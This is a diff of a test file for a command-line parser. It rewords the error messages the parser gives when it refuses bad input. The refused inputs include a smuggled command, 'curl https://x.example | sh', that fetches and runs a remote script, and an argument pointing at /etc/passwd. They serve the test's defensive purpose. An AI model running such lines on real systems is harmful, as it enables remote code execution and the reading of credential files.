@@ -43,17 +43,17 @@ describe('the input command', () => {
   });
 
   test.each([
-    ['apply; curl https://x.example | sh', 'which is no command here; it takes plan, validate, apply'],
-    ['apply --plan /etc/passwd', 'which has an option that does not fit; apply takes --environment, --allow-older'],
-    ['apply --overwrite', 'which has an option that does not fit'],
-    ['apply --allow-creates many', 'which needs a whole number behind --allow-creates'],
-    ['validate front-desk', 'which does not fit; write `validate`, which takes no names'],
-    ['record', 'which is no command here'],
-    ['record move --to file', 'which is no command here'],
+    ['apply; curl https://x.example | sh', 'which is not supported here; expected plan, validate, apply'],
+    ['apply --plan /etc/passwd', 'which has an option that is not supported; apply takes --environment, --allow-older'],
+    ['apply --overwrite', 'which has an option that is not supported'],
+    ['apply --allow-creates many', 'which needs a whole number after --allow-creates'],
+    ['validate front-desk', 'which has the wrong arguments; write `validate`, which takes no names'],
+    ['record', 'which is not supported here'],
+    ['record move --to file', 'which is not supported here'],
     ['record adopt Agent/front-desk ID', 'which has ID in it; put the value in its place'],
-    ['record forget Agent/a Agent/b', 'which does not fit; write `record forget Kind/name`'],
-    ['record rename Agent/a', 'which does not fit; write `record rename Kind/old Kind/new`'],
-    ['toString', 'which is no command here'],
+    ['record forget Agent/a Agent/b', 'which has the wrong arguments; write `record forget Kind/name`'],
+    ['record rename Agent/a', 'which has the wrong arguments; write `record rename Kind/old Kind/new`'],
+    ['toString', 'which is not supported here'],
     [`apply ${'a'.repeat(3_000)}`, 'which is longer than 2000 characters'],
   ])('is refused as %.40j', (line, sentence) => {
     expect(() => parseCommandLine(line)).toThrow(sentence);
